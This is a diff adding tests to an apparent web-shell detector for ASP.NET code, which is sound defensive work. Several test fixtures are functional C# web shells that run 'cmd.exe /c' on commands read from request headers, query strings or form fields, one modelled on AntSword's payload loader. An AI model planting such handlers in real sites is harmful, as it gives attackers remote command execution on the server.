@@ -521,3 +521,129 @@ def test_the_url_path_under_a_site_folder_or_as_a_name_stays_quiet() -> None:
     Response.Redirect("~/Login.aspx?ReturnUrl=" + HttpUtility.UrlEncode(Request.Path));
 }""")
     assert medium_or_above(run("path-benign.aspx", code)) == []
+
+
+# ----------------------------------------------------------------------------- properties, static fields, out parameters
+
+HOLDERS_HANDLER = """<%@ WebHandler Language="C#" Class="H" %>
+using System.Web;
+public class H : IHttpHandler {
+    static class Box { public static string Line; }
+    string Cmd { get; set; }
+    void Read(HttpContext c, out string args) { args = c.Request.Form["a"]; }
+    public void ProcessRequest(HttpContext context) {
+        Cmd = context.Request.Headers["X-Cmd"];
+        Box.Line = context.Request.QueryString["l"];
+        string args;
+        Read(context, out args);
+        Run(context);
+        System.Diagnostics.Process.Start(Box.Line, args);
+    }
+    void Run(HttpContext context) {
+        var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd);
+        context.Response.Write(p.Id);
+    }
+    public bool IsReusable { get { return false; } }
+}"""
+
+
+def test_request_values_kept_in_properties_static_fields_and_out_parameters_are_followed() -> None:
+    # A handler is not judged by unresolved sinks alone: each value must be followed to be found.
+    report = run("holders.ashx", HOLDERS_HANDLER)
+    assert PROCESS in medium_or_above(report)
+    chains = " | ".join(c.chain for c in report.capabilities if c.rule_id == PROCESS)
+    assert "request header 'X-Cmd'" in chains
+    assert "query parameter 'l'" in chains
+    assert "form field 'a'" in chains
+
+
+def test_payload_class_property_is_followed_in_a_code_file() -> None:
+    code = """using System.Web;
+public class Payload : IHttpHandler {
+    public static string Command { get; set; }
+    public void ProcessRequest(HttpContext context) {
+        Command = context.Request["c"];
+        Exec();
+    }
+    static void Exec() { System.Diagnostics.Process.Start("cmd.exe", "/c " + Command); }
+    public bool IsReusable { get { return true; } }
+}"""
+    report = run("Payload.cs", code)
+    assert PROCESS in medium_or_above(report)
+    assert "request parameter 'c'" in chain_of(report, PROCESS)
+
+
+def test_benign_properties_static_fields_and_out_parameters_stay_quiet() -> None:
+    # The same holders carrying request values to what only shows them: followed, no sink reached.
+    code = """<%@ WebHandler Language="C#" Class="Report" %>
+using System.Web;
+public class Report : IHttpHandler {
+    static class Last { public static string Search; }
+    string Title { get; set; }
+    static void Page(HttpContext c, out int page) { int.TryParse(c.Request["p"], out page); }
+    public void ProcessRequest(HttpContext context) {
+        Last.Search = context.Request.QueryString["q"];
+        Title = context.Request["title"];
+        int page;
+        Page(context, out page);
+        context.Response.Write(HttpUtility.HtmlEncode(Title + " " + Last.Search) + " " + page);
+        System.Diagnostics.Process.Start("notepad.exe");
+    }
+    public bool IsReusable { get { return true; } }
+}"""
+    report = run("report.ashx", code)
+    assert report.sinks == 1 and report.reached == 0
+    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
+
+
+# ----------------------------------------------------------------------------- the request handed over as an object
+
+ANTSWORD_ARRAY_PAYLOAD = """using System;
+using System.Web;
+public class Payload {
+    // Loaded by `Assembly.Load(...).CreateInstance(...).Equals(new object[] { Request, Response })`,
+    // the array form AntSword's C# template documents.
+    public override bool Equals(object obj) {
+        object[] parts = (object[])obj;
+        var req = (HttpRequest)parts[0];
+        var resp = (HttpResponse)parts[1];
+        var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + req.Form["c"]);
+        resp.Write(p.Id);
+        return true;
+    }
+    public override int GetHashCode() { return 0; }
+}"""
+
+
+def test_request_handed_over_in_an_object_array_is_request_data() -> None:
+    report = run("Payload.cs", ANTSWORD_ARRAY_PAYLOAD)
+    assert PROCESS in medium_or_above(report)
+    assert "form field 'c'" in chain_of(report, PROCESS)
+
+
+def test_request_cast_back_from_an_object_or_wrapped_is_request_data() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    object held = Request;
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + ((HttpRequest)held).Form["c"]);
+    System.Diagnostics.Process.Start(new HttpRequestWrapper(Request).QueryString["p"]);
+}""")
+    report = run("cast.aspx", code)
+    assert PROCESS in medium_or_above(report)
+    chains = " | ".join(c.chain for c in report.capabilities if c.rule_id == PROCESS)
+    assert "form field 'c'" in chains and "query parameter 'p'" in chains
+
+
+def test_benign_request_objects_cast_back_stay_quiet() -> None:
+    code = cs_page("""public class Key {
+    public int Id;
+    public override bool Equals(object obj) { object[] parts = (object[])obj; var r = (HttpRequest)parts[0]; return r.Form["id"] == Id.ToString(); }
+    public override int GetHashCode() { return Id; }
+}
+void Page_Load(object sender, EventArgs e) {
+    object held = Request;
+    Response.Write(Server.HtmlEncode(((HttpRequest)held).UserAgent));
+    if (new HttpRequestWrapper(Request).QueryString["partial"] == "1") Response.Write("partial");
+    System.Diagnostics.Process.Start("notepad.exe");
+}""")
+    report = run("cast-benign.aspx", code)
+    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
